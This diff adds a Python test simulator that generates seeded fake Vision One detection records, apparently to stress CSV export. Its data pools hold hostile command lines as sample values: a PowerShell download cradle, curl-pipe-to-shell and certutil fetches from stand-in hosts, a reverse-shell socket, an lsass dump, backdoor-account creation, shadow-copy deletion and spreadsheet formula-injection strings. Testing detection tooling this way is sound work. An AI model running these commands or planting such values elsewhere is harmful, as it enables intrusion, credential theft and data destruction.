@@ -1,0 +1,595 @@
+"""Seeded, deterministic detection records shaped like Vision One's ``/v3.0/search/detections`` items.
+
+Records are stored compactly as rows ``(eventTime ms, uuid, bits)`` generated one day at a time and
+cached, and are expanded into full dicts only when served or filtered: a million detections then
+costs a few hundred MB instead of several GB. The expansion is a pure function of the row and of the
+seed's entity pools (hosts, processes, files, mails), so the same seed always gives the same data.
+The pools deliberately hold what makes CSV export hard: unicode, commas, quotes, newlines and
+strings that begin with ``=``, ``+``, ``-`` or ``@`` (attackers control command lines, URLs, subjects).
+"""
+
+from __future__ import annotations
+
+import bisect
+import hashlib
+import random
+import threading
+from collections import OrderedDict
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from datetime import UTC, date, datetime, timedelta
+from functools import lru_cache
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from tests.simulator.query import Query
+
+Row = tuple[int, str, int]  # (eventTime epoch ms, uuid, random bits that pick every other value)
+DAY_MS = 86_400_000
+
+# productCode, pname, pver, kind, weight
+PRODUCTS: tuple[tuple[str, str, str, str, int], ...] = (
+    ("sao", "Apex One as a Service", "14.0.12637", "endpoint", 3),
+    ("xes", "Trend Vision One Endpoint Security", "1.2.2090", "endpoint", 2),
+    ("ptp", "Trend Micro Apex One", "14.0.12526", "endpoint", 2),
+    ("sds", "Server & Workload Protection", "20.0.1-3445", "endpoint", 1),
+    ("pdi", "Deep Discovery Inspector", "6.0.1208", "network", 2),
+    ("sdl", "Trend Micro Email Security", "1.0.0.3561", "mail", 1),
+    ("ddd", "Deep Discovery Email Inspector", "5.8.1148", "mail", 1),
+    ("cos", "Cloud App Security", "3.0.3047", "mail", 1),
+)
+_PRODUCT_TABLE = tuple(p for p in PRODUCTS for _ in range(p[4]))
+
+# eventName, eventSubName, detectionType per product kind
+EVENTS: dict[str, tuple[tuple[str, str, str], ...]] = {
+    "endpoint": (
+        ("MALWARE_DETECTION", "File", "File"),
+        ("MALWARE_DETECTION", "Process", "Behavior"),
+        ("BEHAVIOR_MONITORING", "Process", "Behavior"),
+        ("APPLICATION_CONTROL", "Process", "Policy"),
+        ("WEB_REPUTATION", "URL", "Web"),
+        ("DATA_LOSS", "File", "Policy"),
+    ),
+    "network": (
+        ("NETWORK_CONTENT_INSPECTION", "Network", "Network"),
+        ("WEB_REPUTATION", "URL", "Web"),
+        ("MALWARE_DETECTION", "File", "Network"),
+    ),
+    "mail": (
+        ("XDR_EMAIL", "Email", "Email"),
+        ("XDR_EMAIL", "Attachment", "File"),
+        ("DATA_LOSS", "Email", "Policy"),
+    ),
+}
+
+ACTIONS: dict[str, tuple[tuple[str, str], ...]] = {
+    "endpoint": (
+        ("Block", "Blocked"),
+        ("Quarantine", "File quarantined"),
+        ("Clean", "File cleaned"),
+        ("Allow", "Allowed"),
+        ("Log", "Logged"),
+        ("Pass, logged", "Passed"),
+        ("Block", "Access denied"),
+    ),
+    "network": (
+        ("Log", "Logged"),
+        ("Block", "Connection reset"),
+        ("Pass, logged", "Passed"),
+        ("Allow", "Allowed"),
+    ),
+    "mail": (
+        ("Quarantine", "Message quarantined"),
+        ("Block", "Message deleted"),
+        ("Pass, logged", "Delivered"),
+        ("Clean", "Attachment stripped"),
+        ("Log", "Logged"),
+    ),
+}
+
+RISK_LEVELS = ("info", "low", "low", "medium", "medium", "high", "critical")
+
+_EXCEL = '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"'
+
+# processName, processCmd, parentCmd
+PROCESSES: tuple[tuple[str, str, str], ...] = (
+    (
+        "powershell.exe",
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
+        "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAnACkA",
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n',
+    ),
+    (
+        "powershell.exe",
+        '-NoProfile -w hidden -ExecutionPolicy Bypass -File "C:\\Users\\Public\\a b\\run.ps1"',
+        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
+    ),
+    ("cmd.exe", "=cmd|' /C calc'!A0", _EXCEL),
+    ("cmd.exe", "@SUM(1+1)*cmd|' /C calc'!A0", _EXCEL),
+    ("cmd.exe", '+cmd /c "echo hi, there" & whoami', "C:\\Windows\\explorer.exe"),
+    ("cmd.exe", 'cmd.exe /c "whoami /all, net user"', "C:\\Windows\\explorer.exe"),
+    (
+        "powershell.exe",
+        'powershell.exe -Command "Get-Process |\n  Where-Object { $_.CPU -gt 100 },\n  Stop-Process -Force"',
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe",
+    ),
+    (
+        "rundll32.exe",
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
+        'C:\\Windows\\System32\\cmd.exe /c "C:\\temp\\d.bat"',
+    ),
+    (
+        "WINWORD.EXE",
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
+        '"C:\\Users\\ana\\Downloads\\Invoice, March ""final"".docm"',
+        "C:\\Windows\\explorer.exe",
+    ),
+    ("bash", "/bin/bash -c 'curl -fsSL http://203.0.113.7/x.sh | sh'", "/usr/sbin/sshd -D"),
+    (
+        "certutil.exe",
+        "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe",
+        'C:\\Windows\\System32\\cmd.exe /c "certutil.exe -urlcache -split -f http://evil.example/payload.exe"',
+    ),
+    (
+        "mshta.exe",
+        'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"", 0:close")',
+        "C:\\Windows\\explorer.exe",
+    ),
+    (
+        "regsvr32.exe",
+        "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
+        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -secured -Embedding",
+    ),
+    (
+        "schtasks.exe",
+        'schtasks /create /tn "Updater, daily" /tr "C:\\ProgramData\\upd.exe" /sc daily',
+        'C:\\Windows\\System32\\cmd.exe /c "setup.bat"',
+    ),
+    (
+        "WMIC.exe",
+        'wmic process call create "cmd.exe /c net user backdoor P@ss,word1 /add"',
+        "C:\\Windows\\System32\\cmd.exe",
+    ),
+    (
+        "rapport_été.exe",
+        '"C:\\Users\\José\\Documents\\rapport_été.exe" --silent',
+        "C:\\Windows\\explorer.exe",
+    ),
+    (
+        "更新.exe",
+        "C:\\Users\\田中\\AppData\\Local\\Temp\\更新.exe /quiet",
+        "C:\\Windows\\System32\\svchost.exe -k netsvcs",
+    ),
+    (
+        "python3",
+        "-python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.4\",4444))'",
+        "bash -i",
+    ),
+)
+
+OBJECT_CMDS = (
+    "C:\\Windows\\System32\\net.exe user backdoor /add",
+    '"C:\\Windows\\System32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run '
+    '/v upd /d "x, y"',
+    "vssadmin.exe delete shadows /all /quiet",
+    "=2+5+cmd|' /C calc'!A0",
+    "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
+    "whoami.exe /priv",
+)
+
+# fileName list, filePath
+FILES: tuple[tuple[list[str], str], ...] = (
+    (["invoice_2024.pdf.exe"], "C:\\Users\\ana\\Downloads\\"),
+    (["Rechnung, März.docm"], "C:\\Users\\büro\\Documents\\"),
+    (['"quoted".js', "loader.dll"], "C:\\Users\\Public\\"),
+    (["更新プログラム.exe"], "C:\\Users\\田中\\AppData\\Local\\Temp\\"),
+    (["-rf.sh"], "/tmp/"),
+    (["=evil.xlsx"], "C:\\Users\\mark\\Desktop\\"),
+    (["+payload.hta", "@readme.txt"], "C:\\ProgramData\\"),
+    (["lsass.dmp"], "C:\\temp\\"),
+    (["eicar.com"], "C:\\Users\\test\\Downloads\\"),
+    (["setup_x64 (1).msi"], "C:\\Users\\José\\Downloads\\"),
+    (["report\nQ3.pdf.scr"], "C:\\Users\\ana\\Downloads\\"),
+    (["update.ps1", "stage2.bin"], "C:\\Windows\\Temp\\"),
+)
+
+# malName, malType, threatName
+MALWARE: tuple[tuple[str, str, str], ...] = (
+    ("TROJ_GEN.R002C0PK124", "Trojan", "Trojan.Win32.Generic"),
+    ("Ransom.Win32.LOCKBIT.YXCDT", "Ransomware", "LockBit"),
+    ("Backdoor.Win64.COBEACON.SMA", "Backdoor", "Cobalt Strike Beacon"),
+    ("PUA.Win32.Adware.Agent", "PUA", "Adware, bundled"),
+    ("Eicar_test_file", "Virus", "EICAR test file"),
+    ("HackTool.PS1.PowerSploit.A", "HackTool", "PowerSploit"),
+    ("TrojanSpy.MSIL.AGENTTESLA.YXEC", "Spyware", 'AgentTesla "info stealer"'),
+    ("HEU_AEGIS_SIM", "Behavior", "Suspicious behaviour"),
+)
+
+# (techniques, tactics, extra tags)
+MITRE: tuple[tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]], ...] = (
+    (("T1059.001",), ("TA0002",), ("XSAE.F2140",)),
+    (("T1003.001",), ("TA0006",), ("XSAE.F3066",)),
+    (("T1566.001",), ("TA0001",), ("XSAE.F1034", "XSAE.F1035")),
+    (("T1105", "T1071.001"), ("TA0011",), ()),
+    (("T1218.011",), ("TA0005",), ("XSAE.F2204",)),
+    (("T1053.005",), ("TA0003", "TA0002"), ()),
+    (("T1486",), ("TA0040",), ("XSAE.F6312",)),
+    (("T1547.001", "T1027"), ("TA0003", "TA0005"), ("XSAE.F4412",)),
+)
+
+REQUESTS = (
+    'https://login.micros0ft-support.example/oauth?client_id=1,2&redirect="x"',
+    "http://evil.example/download.php?id=7&name=a,b",
+    '=HYPERLINK("http://evil.example/x","click")',
+    "+http://203.0.113.9/inject",
+    "https://例え.テスト/パス?q=ä",
+    "-http://ads.example/track?u=1",
+    "@import url(http://evil.example/s.css)",
+    "http://198.51.100.23:8080/gate.php",
+    "https://cdn.example.com/libs/jquery-3.7.1.min.js",
+    "http://update.example.net/check?v=1.0&os=win",
+)
+
+SUBJECTS = (
+    'Invoice #4471, due "today"',
+    '=HYPERLINK("http://evil.example/pay","Pay now")',
+    "@channel urgent: password reset",
+    "Réunion d'équipe – compte rendu",  # noqa: RUF001  (real subjects carry typographic dashes)
+    "【重要】アカウントの確認",
+    "Multi-line\nsubject, folded",
+    "+1 (555) 010-7788 voicemail",
+    "-- Quarterly report --",
+    "Заказ №5521 подтверждён",
+    'Re: "Project Ω" budget, Q3',
+    "Your parcel is on its way",
+    "Payroll update",
+)
+
+SENDERS = (
+    "billing@vendor-payments.example",
+    "ceo.office@contoso-mail.example",
+    "noreply@dhl-track.example",
+    "françois.dupont@exemple.fr",
+    "it-support@corp-helpdesk.example",
+    "hr@example.com",
+)
+
+RECIPIENTS = (
+    "ana.silva@corp.example",
+    "mark.jones@corp.example",
+    "田中.太郎@corp.example",
+    "finance@corp.example",
+    "jose.garcia@corp.example",
+    "helpdesk@corp.example",
+)
+
+USERS = (
+    "CORP\\ana.silva",
+    "CORP\\mark.jones",
+    "CORP\\svc_backup",
+    "büro\\jürgen",
+    "NT AUTHORITY\\SYSTEM",
+    "root",
+)
+
+HOST_PATTERNS = (
+    "WS-LON-{n:04d}",
+    "ＷＳ-東京-{n:02d}",  # noqa: RUF001  (full-width letters, as Japanese hosts are named)
+    "büro-pc-{n}",
+    "LAPTOP-ÅSA{n}",
+    "srv-db-{n:02d}",
+    "MacBook-de-José-{n}",
+    "Ноутбук-Иван-{n}",
+    "DESKTOP-{n:05X}",
+)
+
+OSES = (
+    ("Windows 10", "10.0.19045"),
+    ("Windows 11", "10.0.22631"),
+    ("Windows Server 2019", "10.0.17763"),
+    ("macOS", "14.4.1"),
+    ("Ubuntu", "22.04"),
+)
+
+POLICIES: tuple[tuple[str, str, str, str], ...] = (
+    ("pol-0001", "Default Endpoint Policy, EU", "rule-1042", 'Block "encoded" PowerShell'),
+    ("pol-0002", "Servers – strict", "rule-2001", "Ransomware behaviour"),  # noqa: RUF001
+    ("pol-0003", "Mail: inbound", "rule-3110", "Phishing URL, high confidence"),
+    ("pol-0004", "=Finance team", "rule-3200", "Attachments with macros"),
+    ("pol-0005", "Developers", "rule-1500", "Allow signed tools"),
+    ("pol-0006", "Default", "rule-0001", "Log only"),
+)
+
+DPORTS = (80, 443, 445, 3389, 25, 53, 8080, 22, 4444, 135)
+MAIL_GATEWAYS = ("192.0.2.25", "192.0.2.26")
+
+
+# Values that several records share (lists are shared too: records are read-only).
+_MITRE_TAGS = tuple(
+    (list(techniques), list(tactics), [*extra, *(f"MITREV9.{x}" for x in (*techniques, *tactics))])
+    for techniques, tactics, extra in MITRE
+)
+_OBJECT_CMD_SETS = (
+    [],
+    *([c] for c in OBJECT_CMDS),
+    *([a, b] for a in OBJECT_CMDS for b in OBJECT_CMDS if a != b),
+)
+_RECIPIENT_SETS = (
+    *([r] for r in RECIPIENTS),
+    *([a, b] for a in RECIPIENTS for b in RECIPIENTS if a < b),
+    [RECIPIENTS[0], RECIPIENTS[3], RECIPIENTS[5]],
+)
+
+
+@dataclass(frozen=True)
+class Endpoint:
+    guid: str
+    name: str
+    ips: list[str]
+    as_object: dict[str, Any]  # the nested ``endpoint`` field
+
+
+@dataclass(frozen=True)
+class Pools:
+    """Per-seed entities that rows pick from (stable ids, hashes and names)."""
+
+    endpoints: tuple[Endpoint, ...]
+    process_hash_objects: tuple[dict[str, str], ...]  # per PROCESSES entry: {Md5, Sha1, Sha256}
+    file_hash_objects: tuple[dict[str, str], ...]  # per FILES entry
+    file_sizes: tuple[int, ...]
+    external_ips: tuple[str, ...]
+    policies: tuple[dict[str, Any], ...]
+
+
+def _uuid(bits: int) -> str:
+    """Format 128 random bits as a version-4 UUID string."""
+    h = f"{bits:032x}"
+    variant = "89ab"[int(h[16], 16) & 3]
+    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{variant}{h[17:20]}-{h[20:32]}"
+
+
+def _hashes(seed: int, label: str) -> dict[str, str]:
+    data = f"{seed}:{label}".encode()
+    return {
+        "Md5": hashlib.md5(data).hexdigest(),
+        "Sha1": hashlib.sha1(data).hexdigest(),
+        "Sha256": hashlib.sha256(data).hexdigest(),
+    }
+
+
+@lru_cache(maxsize=16)
+def pools(seed: int) -> Pools:
+    rng = random.Random(f"visionone-pools:{seed}")
+    endpoints = []
+    for i in range(120):
+        pattern = HOST_PATTERNS[i % len(HOST_PATTERNS)]
+        ips = [f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"]
+        if i % 5 == 0:
+            ips.append(f"fe80::{rng.randrange(65536):x}:{rng.randrange(65536):x}")
+        os_name, os_version = OSES[rng.randrange(len(OSES))]
+        name = pattern.format(n=rng.randrange(1, 4000))
+        nested = {"name": name, "os": {"name": os_name, "version": os_version}, "ips": ips}
+        endpoints.append(Endpoint(_uuid(rng.getrandbits(128)), name, ips, nested))
+    return Pools(
+        endpoints=tuple(endpoints),
+        process_hash_objects=tuple(_hashes(seed, f"process:{i}") for i in range(len(PROCESSES))),
+        file_hash_objects=tuple(_hashes(seed, f"file:{i}") for i in range(len(FILES))),
+        file_sizes=tuple(rng.randrange(68, 40_000_000) for _ in FILES),
+        external_ips=tuple(
+            f"{rng.choice((198, 203, 185))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+            for _ in range(40)
+        ),
+        policies=tuple(
+            {"id": pid, "name": name, "rule": {"id": rule_id, "name": rule_name}}
+            for pid, name, rule_id, rule_name in POLICIES
+        ),
+    )
+
+
+@lru_cache(maxsize=64)
+def day_rows(seed: int, scale: int, day: date) -> tuple[Row, ...]:
+    """Exactly ``scale`` rows for one UTC day, oldest first (sorted by eventTime, then uuid)."""
+    rng = random.Random(f"visionone-day:{seed}:{day.isoformat()}")
+    day_ms = int(datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp() * 1000)
+    getrandbits, randrange = rng.getrandbits, rng.randrange
+    rows = [(day_ms + randrange(DAY_MS), _uuid(getrandbits(128)), getrandbits(192)) for _ in range(scale)]
+    rows.sort()
+    return tuple(rows)
+
+
+@lru_cache(maxsize=4096)
+def _day_text(epoch_day: int) -> str:
+    return (date(1970, 1, 1) + timedelta(days=epoch_day)).isoformat()
+
+
+def materialize(seed: int, row: Row) -> dict[str, Any]:
+    """Expand a row into a full detection record (stable field order).
+
+    Each ``divmod`` peels one choice off the row's random bits; written out inline because this runs
+    for every record served or filtered. Nested values may be shared between records: treat as read-only.
+    """
+    event_ms, uuid, bits = row
+    p = pools(seed)
+    bits, i = divmod(bits, len(_PRODUCT_TABLE))
+    code, pname, pver, kind, _ = _PRODUCT_TABLE[i]
+    events, actions = EVENTS[kind], ACTIONS[kind]
+    bits, i = divmod(bits, len(events))
+    event_name, event_sub, detection_type = events[i]
+    bits, i = divmod(bits, len(actions))
+    act, act_result = actions[i]
+    bits, i = divmod(bits, len(RISK_LEVELS))
+    risk = RISK_LEVELS[i]
+    bits, i = divmod(bits, len(p.endpoints))
+    ep = p.endpoints[i]
+    bits, proc_i = divmod(bits, len(PROCESSES))
+    bits, file_i = divmod(bits, len(FILES))
+    bits, i = divmod(bits, len(MALWARE))
+    mal_name, mal_type, threat_name = MALWARE[i]
+    bits, i = divmod(bits, len(MITRE))
+    techniques, tactics, tags = _MITRE_TAGS[i]
+    bits, i = divmod(bits, len(REQUESTS))
+    request = REQUESTS[i]
+    bits, i = divmod(bits, len(POLICIES))
+    policy = p.policies[i]
+    bits, i = divmod(bits, len(p.external_ips))
+    ext_ip = p.external_ips[i]
+    bits, spt = divmod(bits, 64_000)
+    spt += 1024
+    bits, i = divmod(bits, len(DPORTS))
+    dpt = DPORTS[i]
+    bits, pid = divmod(bits, 60_000)
+    pid += 4
+    bits, i = divmod(bits, len(_OBJECT_CMD_SETS))
+    obj_cmds = _OBJECT_CMD_SETS[i]
+    bits, i = divmod(bits, len(SUBJECTS))
+    subject = SUBJECTS[i]
+    bits, i = divmod(bits, len(SENDERS))
+    sender = SENDERS[i]
+    bits, i = divmod(bits, len(_RECIPIENT_SETS))
+    recipients = _RECIPIENT_SETS[i]
+    bits, i = divmod(bits, len(USERS))
+    user = USERS[i]
+    has_file = bits % 4 != 0
+
+    day, second = divmod(event_ms // 1000, 86_400)
+    hh, rest = divmod(second, 3600)
+    seconds = f"{_day_text(day)}T{hh:02d}:{rest // 60:02d}:{rest % 60:02d}"
+    rt = f"{seconds}.{event_ms % 1000:03d}Z"
+    file_names, file_path = FILES[file_i]
+    file_hash = p.file_hash_objects[file_i]
+    proc_name, proc_cmd, parent_cmd = PROCESSES[proc_i]
+    endpoint_kind = kind == "endpoint"
+    mail_kind = kind == "mail"
+    file_fields = endpoint_kind or has_file
+
+    if mail_kind:
+        host, ips, src, dst, dpt = recipients[0], [ext_ip], ext_ip, [MAIL_GATEWAYS[spt % 2]], 25
+    else:
+        host, ips, src, dst = ep.name, ep.ips, ep.ips[0], [ext_ip]
+
+    return {
+        "uuid": uuid,
+        "eventTime": event_ms,
+        "eventTimeDT": f"{seconds}+00:00",
+        "rt": rt,
+        "rt_utc": rt,
+        "productCode": code,
+        "pname": pname,
+        "pver": pver,
+        "act": act,
+        "actResult": act_result,
+        "detectionType": detection_type,
+        "eventName": event_name,
+        "eventSubName": event_sub,
+        "filterRiskLevel": risk,
+        "endpointGUID": ep.guid if endpoint_kind else None,
+        "endpointHostName": ep.name if endpoint_kind else None,
+        "endpointIp": ep.ips if endpoint_kind else None,
+        "hostName": host,
+        "interestedHost": host,
+        "interestedIp": ips,
+        "src": src,
+        "dst": dst,
+        "spt": spt,
+        "dpt": dpt,
+        "request": request if (not endpoint_kind or event_name == "WEB_REPUTATION") else None,
+        "processName": proc_name if endpoint_kind else None,
+        "processCmd": proc_cmd if endpoint_kind else None,
+        "parentCmd": parent_cmd if endpoint_kind else None,
+        "objectCmd": obj_cmds if endpoint_kind else None,
+        "processPid": pid if endpoint_kind else None,
+        "processFileHash": p.process_hash_objects[proc_i] if endpoint_kind else None,
+        "objectFileHash": file_hash if file_fields else None,
+        "fileName": file_names if file_fields else None,
+        "filePath": file_path if file_fields else None,
+        "fileHash": file_hash["Sha1"] if file_fields else None,
+        "fileSize": p.file_sizes[file_i] if file_fields else None,
+        "malName": mal_name if file_fields else None,
+        "malType": mal_type if file_fields else None,
+        "threatName": threat_name,
+        "mitreMapping": techniques,
+        "tacticId": tactics,
+        "tags": tags,
+        "mailMsgSubject": subject if mail_kind else None,
+        "suser": sender if mail_kind else (user if endpoint_kind else None),
+        "duser": recipients if mail_kind else None,
+        "policy": policy if kind != "network" else None,
+        "endpoint": ep.as_object if endpoint_kind else None,
+    }
+
+
+FIELDS: tuple[str, ...] = tuple(materialize(0, (0, _uuid(0), 0)).keys())
+
+
+def parse_time(value: str | date | datetime) -> int:
+    """Epoch ms of an ISO 8601 string (``Z`` or offset; naive = UTC), a date or a datetime."""
+    if isinstance(value, str):
+        value = datetime.fromisoformat(value)
+    if not isinstance(value, datetime):
+        value = datetime(value.year, value.month, value.day)
+    if value.tzinfo is None:
+        value = value.replace(tzinfo=UTC)
+    return int(value.timestamp() * 1000)
+
+
+class Dataset:
+    """The detections of ``days`` days from ``start``, ``scale`` per day, for one seed."""
+
+    def __init__(self, seed: int, scale: int, start: str | date, days: int) -> None:
+        if scale < 0 or days < 0:
+            raise ValueError("scale and days must not be negative")
+        self.seed, self.scale, self.days = seed, scale, days
+        self.start_day = date.fromisoformat(start) if isinstance(start, str) else start
+        self.start_ms = parse_time(self.start_day)
+        self.end_ms = self.start_ms + days * DAY_MS
+        self._cache: OrderedDict[tuple[str, int | None, int | None], tuple[Row, ...]] = OrderedDict()
+        self._lock = threading.Lock()
+
+    def rows(self, start_ms: int | None = None, end_ms: int | None = None) -> list[Row]:
+        """Rows with ``start_ms <= eventTime < end_ms``, newest first."""
+        lo = self.start_ms if start_ms is None else max(start_ms, self.start_ms)
+        hi = self.end_ms if end_ms is None else min(end_ms, self.end_ms)
+        out: list[Row] = []
+        if lo >= hi:
+            return out
+        first, last = (lo - self.start_ms) // DAY_MS, (hi - 1 - self.start_ms) // DAY_MS
+        for i in range(last, first - 1, -1):
+            rows = day_rows(self.seed, self.scale, self.start_day + timedelta(days=i))
+            a = bisect.bisect_left(rows, (lo,))
+            b = bisect.bisect_left(rows, (hi,))
+            out.extend(reversed(rows[a:b]))
+        return out
+
+    def matching(
+        self, query: Query, start_ms: int | None = None, end_ms: int | None = None
+    ) -> tuple[Row, ...]:
+        """Rows in range that match ``query``, newest first; recent answers are cached for paging."""
+        key = ("*" if query.match_all else query.text, start_ms, end_ms)
+        with self._lock:
+            if key in self._cache:
+                self._cache.move_to_end(key)
+                return self._cache[key]
+        rows = self.rows(start_ms, end_ms)
+        if not query.match_all:
+            rows = [row for row in rows if query.matches(materialize(self.seed, row))]
+        result = tuple(rows)
+        with self._lock:
+            self._cache[key] = result
+            while len(self._cache) > 64:
+                self._cache.popitem(last=False)
+        return result
+
+    def records(self, rows: Iterable[Row] | None = None) -> list[dict[str, Any]]:
+        """Full records of ``rows`` (default: every generated row, newest first)."""
+        return [materialize(self.seed, row) for row in (self.rows() if rows is None else rows)]
+
+    def __len__(self) -> int:
+        return self.scale * self.days
+
+
+def project(record: dict[str, Any], fields: Sequence[str] | None) -> dict[str, Any]:
+    """Keep only ``fields`` (plus ``uuid`` and ``eventTime``), in record order: the API's ``select``."""
+    if not fields:
+        return record
+    keep = {"uuid", "eventTime", *fields}
+    return {k: v for k, v in record.items() if k in keep}
